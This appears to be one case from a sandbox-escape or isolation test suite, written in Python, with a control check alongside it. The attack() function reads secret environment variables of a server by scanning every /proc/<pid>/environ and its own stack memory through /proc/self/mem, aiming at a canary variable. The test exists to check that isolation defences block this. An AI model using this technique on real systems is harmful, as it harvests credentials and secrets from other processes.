"""Read the environment variables of the server, where its secrets are.

Technique: an environment is inherited unless it is cleared, and stays readable in /proc/<pid>/environ and in the memory
    above the stack. Looks in its own (also in what is left of it beside the stack), in that of its parent and in every
    other it can open.
Success: the variable of the server that holds a secret.
Stopped by: clean_environment, own_uid, pid_namespace
"""


def attack():
    # `parameters` name the variable too, so look for it where a variable begins.
    wanted = b"\0" + canary["env_name"].encode() + b"="
    if canary["env_name"] in os.environ:
        return f"{canary['env_name']} is inherited"
    pids = [name for name in os.listdir("/proc") if name.isdigit()] + ["self", str(os.getppid()), str(canary["pid"])]
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as variables:
                held = b"\0" + variables.read()
        except OSError:
            continue
        if wanted in held:
            return f"/proc/{pid}/environ holds {canary['env_name']}"
    with open("/proc/self/maps") as maps:
        stack = next(line for line in maps if "[stack]" in line).split()[0]
    begin, end = (int(address, 16) for address in stack.split("-"))
    with open("/proc/self/mem", "rb") as memory:
        memory.seek(begin)
        held = memory.read(end - begin)
    # Our own wish is on the heap, not there.
    return wanted in held and "it is beside the stack"


def twin():
    """The variables that programs rely on are there, and a child inherits what is set."""
    for name in ("PATH", "HOME", "LANG"):
        assert os.environ[name]
    os.environ["OWN"] = "mine"
    assert forked(lambda: os.environ["OWN"]) == "mine"
    assert os.popen("echo $OWN").read() == "mine\n"
